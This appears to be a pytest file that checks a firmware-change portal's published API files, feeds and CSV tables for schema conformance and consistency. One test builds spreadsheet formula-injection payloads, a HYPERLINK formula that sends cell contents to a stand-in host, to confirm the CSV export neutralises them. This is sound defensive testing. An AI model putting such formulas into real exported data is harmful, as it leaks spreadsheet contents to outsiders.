"""The API: whole, as its schemas say, in agreement with the feeds, and readable by what partners have."""

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft202012Validator
from jsonschema_path import SchemaPath
from openapi_spec_validator import OpenAPIV31SpecValidator

from portal.model import Catalog, Change, Event
from portal.model.change import Look, Replacement, Snippet
from portal.model.dates import When
from portal.model.surface import surface_names
from portal.model.versions import Version
from portal.outputs.api.items import event_items
from portal.outputs.feeds import feeds_of
from portal.outputs.feeds.change_entries import change_entries
from portal.outputs.outputs import API_OUTPUTS, files_of, write_outputs
from portal.outputs.standards import papers
from portal.planner import PATH as PLAN
from portal.reading.structure import _formats, published_schemas
from tests.conftest import REPOSITORY, TESTS
from tests.dated import SOURCES, then, written

SCHEMAS = published_schemas(REPOSITORY)
KIND = {output.path: output.schema for output in API_OUTPUTS}


@pytest.fixture(params=["catalog", "sample"])
def facts(request: pytest.FixtureRequest) -> Catalog:
    """The real catalog, then the sample."""
    value = request.getfixturevalue(request.param)
    assert isinstance(value, Catalog)
    return value


def api_of(catalog: Catalog) -> dict[str, str]:
    """Return every file of the API by its name below `api/v1/`."""
    return {
        path.removeprefix("api/v1/"): data.decode()
        for path, data in files_of(catalog, None)
        if path.startswith("api/")
    }


def read(catalog: Catalog, name: str) -> dict[str, Any]:
    value: dict[str, Any] = json.loads(api_of(catalog)[name])
    return value


def items(catalog: Catalog, name: str) -> list[dict[str, Any]]:
    value: list[dict[str, Any]] = read(catalog, name)["items"]
    return value


def by(key: str, found: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    result = {item[key]: item for item in found}
    assert len(result) == len(found)
    return result


# --- shape


def kind_of(name: str) -> str | None:
    """Return the schema of a file, found by the table's path."""
    for path, kind in KIND.items():
        if re.fullmatch(re.sub(r"\\\{\w+\\\}", r"[^/]+", re.escape(path)), f"api/v1/{name}"):
            return kind
    raise AssertionError(name)


def closed(schema: Any) -> Any:
    """Return a schema that refuses the keys that it does not name: what is published tells to ignore them."""
    if isinstance(schema, list):
        return [closed(part) for part in schema]
    if not isinstance(schema, dict):
        return schema
    strict = {"additionalProperties": False} if isinstance(schema.get("properties"), dict) else {}
    return {name: closed(part) for name, part in schema.items()} | strict


def problems(kind: str, value: Any) -> list[str]:
    schema = closed(SCHEMAS.schema(kind))
    validator = Draft202012Validator(schema, format_checker=_formats())
    return [f"{error.json_path}: {error.message}" for error in validator.iter_errors(value)]


def test_every_file_keeps_its_schema_and_has_nothing_that_it_does_not_name(facts: Catalog) -> None:
    checked = set()
    for name, text in api_of(facts).items():
        kind = kind_of(name)
        if kind:
            assert problems(kind, json.loads(text)) == [], name
            checked.add(kind)
    assert checked == {kind for kind in KIND.values() if kind} - {"manifest"}


def test_the_lifecycle_standards_are_in_the_table_and_keep_their_schemas(facts: Catalog) -> None:
    moved = written("2027-03-01", "2040", about="support-end", track="lts-2024")
    for catalog in (facts, then(facts, moved)):
        kinds = [str(kind_of(paper.path.removeprefix("api/v1/"))) for paper in papers(catalog)]
        assert kinds == ["cle", *["openeox"] * (len(kinds) - 2), "endoflife"]
        for kind, paper in zip(kinds, papers(catalog), strict=True):
            assert problems(kind, json.loads(paper.text)) == [], paper.path


def changes_feed(facts: Catalog) -> list[Any]:
    """Return every page of the feed of changes."""
    feed = next(feed for feed in feeds_of(facts) if feed.path == "feeds/changes.json")
    return [json.loads(text) for _, text in feed.documents(facts)]


def test_the_feed_names_all_its_keys_too(facts: Catalog) -> None:
    assert [problem for page in changes_feed(facts) for problem in problems("changes-feed", page)] == []


BROKEN: dict[str, tuple[str, Callable[[dict[str, Any]], object], str]] = {
    "unknown key": ("changes.json", lambda value: value["items"][0].update(colour="red"), "colour"),
    "unknown key of the envelope": ("areas.json", lambda value: value.update(total=1), "total"),
    "no uri": ("changes.json", lambda value: value["items"][0].pop("uri"), "'uri' is a required"),
    "version as a number": ("changes.json", lambda value: value["items"][0].update(version=12.0), "version"),
    "no such day": (
        "changes.json",
        lambda value: value["items"][0]["history"][0].update(date="2026-11-31"),
        "2026-11-31",
    ),
    "a date as text": ("releases.json", lambda value: value["items"][0].update(date="2024-09"), "2024-09"),
    "a precision that is none": (
        "releases.json",
        lambda value: value["items"][0]["date"].update(precision="week"),
        "week",
    ),
    "unknown written out": (
        "tracks.json",
        lambda value: value["items"][0].update(status="unknown"),
        "status",
    ),
    "an address that is none": (
        "links.json",
        lambda value: value["items"][0].update(url="https://%zz"),
        "url",
    ),
    "an event of something unknown": (
        "events.json",
        lambda value: value["items"][0].update(about="weather"),
        "weather",
    ),
    "a date of an event as text": (
        "events.json",
        lambda value: next(item for item in value["items"] if "to_date" in item).update(to_date="2024-09"),
        "2024-09",
    ),
    "an event without id": ("events.json", lambda value: value["items"][0].pop("id"), "'id' is a required"),
    "a name without changes": ("surface.json", lambda value: value["items"][0].update(changes=[]), "changes"),
    "a count below none": ("products.json", lambda value: value.update(count=-1), "count"),
    "a path with a space": ("index.json", lambda value: value["items"][0].update(path="a b"), "path"),
    "next major version": ("areas.json", lambda value: value.update(schema_version="2.0"), "schema_version"),
}


@pytest.mark.parametrize("name", BROKEN)
def test_the_schemas_refuse(name: str, sample: Catalog) -> None:
    file, break_it, message = BROKEN[name]
    value = read(sample, file)
    break_it(value)
    (problem,) = problems(str(kind_of(file)), value)
    assert message in problem


SOURCED = {
    "age": {
        "value": "2024-06~",
        "start": "2024-06-01",
        "end": "2024-06-30",
        "precision": "month",
        "approximate": True,
    },
    "sources": ["portal-2024-06"],
}


def test_a_file_is_as_old_as_its_items_and_an_item_as_what_is_said_of_it(sample: Catalog) -> None:
    """A newer source of something else makes neither look fresher."""
    first, *others = sample.changes
    old = replace(
        first, notes=(), history=tuple(replace(event, sources=("forum-2024",)) for event in first.history)
    )
    newer = replace(sample.sources[0], id="notes-2026", date=When.parse("2026-10"))
    known = replace(sample, changes=(old, *others), sources=(newer, *sample.sources))
    value = read(known, "changes.json")
    assert {end: age["value"] for end, age in value["ages"].items()} == {
        "oldest": "2024-04-03",
        "newest": "2024-06~",
    }
    item = by("id", value["items"])[old.id]
    assert (item["age"]["value"], item["sources"]) == ("2024-04-03", ["forum-2024"])
    assert set(item["sureness"].values()) == {"third-party"}
    alone = read(known, f"changes/{old.id}.json")
    assert alone["ages"]["oldest"] == alone["ages"]["newest"] == item["age"]
    assert "ages" not in read(known, "areas.json")
    assert read(known, "releases.json") == read(sample, "releases.json")


def test_envelope(facts: Catalog) -> None:
    for name, text in api_of(facts).items():
        if kind_of(name) not in (None, "plan", "support", "scan", "cle", "openeox", "endoflife"):
            value = json.loads(text)
            aged = ["ages"] if any("age" in item for item in value["items"]) else []
            assert list(value) == ["schema_version", "data_as_of", *aged, "generated_from", "count", "items"]
            assert value["count"] == len(value["items"])
            if not name.startswith("editions/"):  # an edition has its own date
                assert value["data_as_of"]["value"] == facts.portal.data_as_of.text
            assert value["generated_from"]["repository"] == facts.portal.repository
            assert text.endswith("]\n}\n")


def every_value(value: Any, where: str = "") -> Iterator[tuple[str, Any]]:
    if isinstance(value, dict):
        for name, part in value.items():
            yield from every_value(part, f"{where}.{name}")
    elif isinstance(value, list):
        for part in value:
            yield from every_value(part, f"{where}[]")
    else:
        yield where, value


def test_no_field_is_sometimes_yes_or_no_and_sometimes_something_else(facts: Catalog) -> None:
    kinds: dict[tuple[str, str], set[type]] = {}
    for name, text in api_of(facts).items():
        if kind_of(name):
            for where, value in every_value(json.loads(text)):
                kinds.setdefault((str(kind_of(name)), where), set()).add(type(value))
    booleans = [found for found in kinds.values() if bool in found]
    assert booleans
    assert all(found == {bool} for found in booleans)


# --- agreement


def test_one_file_an_entry_has_the_item_of_the_whole_file(facts: Catalog) -> None:
    found = api_of(facts)
    for whole, key in (("changes", "id"), ("releases", "version")):
        expected = {f"{whole}/{item[key]}.json": item for item in items(facts, f"{whole}.json")}
        single = {name: text for name, text in found.items() if name.startswith(f"{whole}/")}
        assert single.keys() == expected.keys()
        assert {name: json.loads(text)["items"] for name, text in single.items()} == {
            name: [item] for name, item in expected.items()
        }


def test_ids_are_those_of_the_catalog(facts: Catalog) -> None:
    ids = {
        "changes": facts.change_by_id,
        "areas": facts.area_by_id,
        "products": facts.product_by_id,
        "tracks": facts.track_by_id,
        "links": facts.link_by_id,
    }
    for name, wanted in ids.items():
        assert list(by("id", items(facts, f"{name}.json"))) == list(wanted)
    versions = [item["version"] for item in items(facts, "releases.json")]
    assert versions == [str(release.version) for release in facts.releases]


def test_changes_say_what_the_feed_says(facts: Catalog) -> None:
    entries = {entry["id"]: entry for page in changes_feed(facts) for entry in page["items"]}
    changes = by("uri", items(facts, "changes.json"))
    assert changes.keys() == entries.keys()
    for uri, change in changes.items():
        assert change.pop("uri") == uri
        assert change.pop("url") == entries[uri]["url"]
        change.pop("editions", None)
        assert change == entries[uri]["_axis_os"]


def test_every_id_that_is_named_leads_somewhere(facts: Catalog) -> None:
    known = {name: by("id", items(facts, f"{name}.json")).keys() for name in ("changes", "products", "links")}
    for release in items(facts, "releases.json"):
        assert set(release["changes"]) <= known["changes"]
        assert set(release.get("links", ())) <= known["links"]
    for change in items(facts, "changes.json"):
        assert set(change.get("related", ())) <= known["changes"]
        assert set(change.get("products", ())) <= known["products"]
        assert set(change.get("links", ())) <= known["links"]
    events = items(facts, "events.json")
    assert {item["change"] for item in events if item["about"] == "change"} == known["changes"]
    tracks = by("id", items(facts, "tracks.json")).keys()
    assert {item["track"] for item in events if item["about"] != "change"} <= tracks


def test_releases_list_what_takes_effect_and_what_comes_in_a_stage(sample: Catalog) -> None:
    changes = {item["version"]: item["changes"] for item in items(sample, "releases.json")}
    assert changes == {
        "12.0": ["password-rule", "network-filter-removal"],
        "11.11": ["smb1-removal"],
        "11.0": ["date-cgi-removal"],
    }


def test_names_have_everything_that_changes_say_of_them(facts: Catalog) -> None:
    names = by("id", items(facts, "surface.json"))
    assert len(names) == sum(map(len, surface_names(facts).values()))
    said = sorted(
        (change.id, item.kind, item.name, item.of or "", item.effect, item.replaced_by or "", item.match)
        for change in facts.changes
        for item in change.surface
    )
    listed = sorted(
        (
            mention["id"], name["kind"], mention["name"], name.get("of", ""), mention["effect"],
            mention.get("replaced_by", ""), tuple(mention.get("match", ())),
        )
        for name in names.values()
        for mention in name["changes"]
    )  # fmt: skip
    assert listed == said
    for anchor, name in names.items():
        assert name["url"] == f"{facts.portal.url}surface/#{anchor}"


# --- unknown is null, what does not apply is absent


def test_what_is_not_known_is_null(sample: Catalog) -> None:
    changes = by("id", items(sample, "changes.json"))
    assert changes["password-rule"]["impact"] is None
    assert changes["password-rule"]["applies_to"] is None
    assert by("version", items(sample, "releases.json"))["11.0"]["date"] is None
    assert {item["id"]: item["url"] for item in items(sample, "links.json")} == {
        link.id: link.url for link in sample.links
    }
    unsure = replace(sample.tracks.tracks[1], status="unknown", line=None, begin=None, support_end=())
    tracks = replace(sample.tracks, tracks=(sample.tracks.tracks[0], unsure))
    found = by("id", items(replace(sample, tracks=tracks), "tracks.json"))
    assert found["lts-2024"] == {
        "id": "lts-2024", "name": "LTS 2024", "kind": "lts", "status": None, "line": None, "begins": None,
        "support_ends": None, **SOURCED,
    }  # fmt: skip


def test_what_to_use_and_how_to_look_are_as_sure_as_their_own_sources(sample: Catalog) -> None:
    look = Look("Search for `date.cgi`.", ("forum-2024",), Snippet("grep -rn date.cgi .", "sh"))
    given = (
        Replacement("Time API", "/config/rest/time/v2", ("library-2024",), since=Version.parse("8.40")),
        Replacement(
            "time.cgi", "/axis-cgi/time.cgi", ("portal-2024-06",), None, look.request, True, "It sets."
        ),
    )
    changes = [replace(one, replacement=given, look=look) for one in sample.changes[:1]]
    file = read(replace(sample, changes=(*changes, *sample.changes[1:])), "changes.json")
    assert problems("changes", file) == []
    item = file["items"][0]
    request = {"text": "grep -rn date.cgi .", "language": "sh"}
    assert item["replacement"] == [
        {"name": "Time API", "path": "/config/rest/time/v2", "sources": ["library-2024"], "since": "8.40"},
        {
            "name": "time.cgi",
            "path": "/axis-cgi/time.cgi",
            "sources": ["portal-2024-06"],
            "request": request,
            "changes_device": True,
            "note": "It sets.",
        },
    ]
    assert item["look"] == {"text": look.text, "sources": ["forum-2024"], "request": request}
    assert item["sureness"]["replacement"] == ["vendor-documentation", "vendor"]
    assert item["sureness"]["look"] == "third-party"
    assert item["sources"] == items(sample, "changes.json")[0]["sources"]
    (entry,) = (one for one in change_entries(replace(sample, changes=tuple(changes))))
    assert entry.html.count("<pre>") == 2
    assert "This request changes the device." in entry.html
    assert entry.age == sample.age(sample.changes[0].cited)


def test_what_does_not_apply_is_absent(sample: Catalog) -> None:
    assert by("id", items(sample, "tracks.json"))["active"] == {
        "id": "active", "name": "Active track", "kind": "active", "status": "current", **SOURCED,
    }  # fmt: skip
    assert by("version", items(sample, "releases.json"))["11.0"].keys() == {
        "version", "major", "url", "status", "date", "sureness", "age", "sources", "summary", "schedule",
        "changes",
    }  # fmt: skip
    assert by("id", items(sample, "products.json"))["t6101"].keys() == {"id", "name", "kind"}


def test_dates_say_how_exact_they_are(sample: Catalog) -> None:
    assert by("id", items(sample, "tracks.json"))["lts-2024"]["support_ends"] == {
        "value": "2029",
        "start": "2029-01-01",
        "end": "2029-12-31",
        "precision": "year",
        "approximate": False,
    }
    moved = then(sample, written("2026-12-24", "../2024-10-21"))
    date = by("version", items(moved, "releases.json"))["12.0"]["date"]
    assert date == {
        "value": "../2024-10-21",
        "start": None,
        "end": "2024-10-21",
        "precision": "open-range",
        "approximate": False,
    }
    first, second = by("id", items(sample, "products.json"))["q1656-le"]["support"]
    assert "from" not in first
    assert first["until"]["precision"] == second["from"]["precision"] == "year"


# --- the log


def test_the_log_has_every_event_newest_first(facts: Catalog) -> None:
    log = items(facts, "events.json")
    count = sum(len(change.history) for change in facts.changes)
    assert len(by("id", log)) == count + sum(entry.date is not None for entry in facts.milestones)
    assert [event["date"] for event in log] == sorted((event["date"] for event in log), reverse=True)
    for change in items(facts, "changes.json"):
        own = [event for event in log if event.get("change") == change["id"]]
        assert all(event["about"] == "change" for event in own)
        only = ("id", "about", "change", "url", "sureness", "age")
        bare = [{name: event[name] for name in event if name not in only} for event in own]
        assert bare == change["history"][::-1]


def test_a_move_is_an_event_of_its_own(sample: Catalog) -> None:
    log = by("id", items(sample, "events.json"))
    assert log["tag:portal.example,2026:changes/network-filter-removal/history/3"] == {
        "id": "tag:portal.example,2026:changes/network-filter-removal/history/3",
        "about": "change",
        "change": "network-filter-removal",
        "url": "https://portal.example/changes/network-filter-removal/",
        "date": "2026-12-24",
        "event": "moved",
        "from": "11.11",
        "to": "12.0",
        "because": "The firewall was not ready.",
        "sureness": "vendor",
        **SOURCED,
    }


def test_an_event_keeps_its_id_when_another_follows(facts: Catalog) -> None:
    def later(change: Change) -> Change:
        return replace(
            change, history=(*change.history, Event(When.parse("2030-01-01"), "applied", sources=SOURCES))
        )

    before = event_items(facts)
    after = event_items(replace(facts, changes=tuple(map(later, facts.changes))))
    assert [event for event in after if event["date"] != "2030-01-01"] == before
    assert len(after) == len(before) + len(facts.changes)
    moved = replace(facts, portal=replace(facts.portal, url="https://elsewhere.example/"))
    assert [event["id"] for event in event_items(moved)] == [event["id"] for event in before]


# --- tables


def rows_of(text: str) -> list[dict[str, str]]:
    """Read a table as partners are told to: an apostrophe before what looks like a formula is not text."""
    rows = csv.DictReader(io.StringIO(text, newline=""), strict=True)
    return [
        {name: re.sub(r"^'('*[=+\-@＝＋－＠\t\r])", r"\1", cell) for name, cell in row.items()}
        for row in rows
    ]


def as_cell(value: object) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        return " ".join(value)
    return "" if value is None else str(value)


def test_the_table_of_changes_says_what_the_json_says(facts: Catalog) -> None:
    rows, changes = rows_of(api_of(facts)["changes.csv"]), items(facts, "changes.json")
    assert [row["id"] for row in rows] == [change["id"] for change in changes]
    for row, change in zip(rows, changes, strict=True):
        dates = [event["date"] for event in change["history"]]
        wanted = change | {"recorded": dates[0], "updated": dates[-1]}
        sure = change["sureness"]
        wanted |= {"sureness": sure.get("came", sure["version"]), "age": change["age"]["value"]}
        wanted["data_as_of"] = facts.portal.data_as_of.text
        assert row == {column: as_cell(wanted.get(column)) for column in row}


def test_the_table_of_releases_says_what_the_json_says(facts: Catalog) -> None:
    rows, releases = rows_of(api_of(facts)["releases.csv"]), items(facts, "releases.json")
    for row, release in zip(rows, releases, strict=True):
        date = release["date"] or {}
        flat = {"date": date.get("value")} | {f"date_{name}": date.get(name) for name in date}
        wanted = release | flat | {"data_as_of": facts.portal.data_as_of.text}
        wanted |= {"sureness": release["sureness"]["date"], "age": release["age"]["value"]}
        assert row == {column: as_cell(wanted.get(column)) for column in row}
    assert len(rows[0]) == 15


def test_tables_keep_to_rfc_4180(facts: Catalog) -> None:
    for name in ("changes.csv", "releases.csv"):
        text = api_of(facts)[name]
        assert text.endswith("\r\n")
        assert not text.startswith("\ufeff")
        rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
        assert len({len(row) for row in rows}) == 1


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "'=", "''@"])
def test_no_cell_is_a_formula_and_none_is_lost(start: str, sample: Catalog) -> None:
    payload = start + 'HYPERLINK("https://elsewhere.example/?" & A1, "x")'
    first, *others = sample.changes
    changes = (replace(first, title=payload, summary=f"a{payload}"), *others)
    text = api_of(replace(sample, changes=changes))["changes.csv"]
    _, raw, *_ = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert raw[1:3] == [f"'{payload}", f"a{payload}"]
    row = rows_of(text)[0]
    assert (row["title"], row["summary"]) == (payload, f"a{payload}")


def test_a_text_with_an_apostrophe_stays_as_it_is(sample: Catalog) -> None:
    changes = (replace(sample.changes[0], title="'Tis over"), *sample.changes[1:])
    assert rows_of(api_of(replace(sample, changes=changes))["changes.csv"])[0]["title"] == "'Tis over"


# --- index and description


def test_the_index_lists_every_file_with_its_count(facts: Catalog) -> None:
    index = by("path", items(facts, "index.json"))
    assert list(index) == [output.path for output in API_OUTPUTS]
    assert PLAN in index
    found = api_of(facts) | {paper.path.removeprefix("api/v1/"): paper.text for paper in papers(facts)}
    for path, item in index.items():
        name = path.removeprefix("api/v1/")
        pattern = re.sub(r"\\\{\w+\\\}", r"[^/]+", re.escape(name))
        matching = [file for file in found if re.fullmatch(pattern, file)]
        if "{" in path:
            assert item["count"] == len(matching)
            assert "url" not in item
        elif "count" in item and name.endswith(".json"):
            assert item["count"] == read(facts, name)["count"]
        elif "count" in item:
            assert item["count"] == len(rows_of(found[name]))
        assert item.get("url", facts.portal.url + path) == facts.portal.url + path
        schema = f"{facts.portal.url}schema/v1/{KIND[path]}.schema.json" if KIND[path] else None
        assert item.get("schema") == schema


def openapi_errors(description: dict[str, Any]) -> list[str]:
    """Validate as the standard says; the published schemas come from the checkout, not over the network."""

    def published(address: str) -> dict[str, Any]:
        return SCHEMAS.schema(address.rpartition("/")[2].removesuffix(".schema.json"))

    path = SchemaPath.from_dict(description, handlers={"https": published})
    return [str(error) for error in OpenAPIV31SpecValidator(path).iter_errors()]


def test_the_description_is_openapi(facts: Catalog) -> None:
    description = read(facts, "openapi.json")
    assert openapi_errors(description) == []
    (track,) = description["paths"]["/api/v1/lifecycle/openeox/{track}.json"]["get"]["parameters"]
    assert track["example"] in facts.track_by_id
    assert list(description["paths"]) == [f"/{output.path}" for output in API_OUTPUTS]


def references(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        if "$ref" in value:
            yield value["$ref"]
        for part in value.values():
            yield from references(part)
    elif isinstance(value, list):
        for part in value:
            yield from references(part)


def test_every_reference_of_the_description_is_a_published_file(facts: Catalog, tmp_path: Path) -> None:
    write_outputs(facts, SCHEMAS, tmp_path)
    found = list(references(read(facts, "openapi.json")))
    assert len(found) == sum(output.schema is not None for output in API_OUTPUTS)
    for reference in found:
        assert reference.startswith(facts.portal.url)
        schema = json.loads((tmp_path / reference.removeprefix(facts.portal.url)).read_text("utf-8"))
        Draft202012Validator.check_schema(schema)
        for inner in references(schema):
            assert inner.removeprefix("#/$defs/") in schema["$defs"]


def test_the_name_of_a_schema_is_where_it_is_published(facts: Catalog) -> None:
    written = dict(files_of(facts, SCHEMAS))
    for kind in SCHEMAS.kinds:
        path = f"schema/v1/{kind}.schema.json"
        assert json.loads(written[path])["$id"] == f"{facts.portal.url}{path}"


# --- one build, one text


def test_writing_again_writes_the_same_files(sample: Catalog, tmp_path: Path) -> None:
    write_outputs(sample, SCHEMAS, tmp_path)
    write_outputs(sample, SCHEMAS, tmp_path)
    written = {file.relative_to(tmp_path).as_posix(): file for file in tmp_path.rglob("*") if file.is_file()}
    rendered = list(files_of(sample, SCHEMAS))
    assert sorted(written) == sorted(path for path, _ in rendered), "no two rows have the same file"
    for path, data in rendered:
        assert written[path].read_bytes() == data


ELSEWHERE = ("plan.json", "support.json", "scan.json", "manifest.json", "lifecycle/cle.json")
GOLDEN = [name for name in (path.removeprefix("api/v1/") for path in KIND) if "{" not in name]


@pytest.mark.parametrize("name", [name for name in GOLDEN if name not in ELSEWHERE])
def test_golden(name: str, sample: Catalog, compare_golden: Callable[[Path, str], None]) -> None:
    text = api_of(sample)[name]
    compare_golden(TESTS / "golden" / "api" / name, text.replace("\r\n", "\n"))
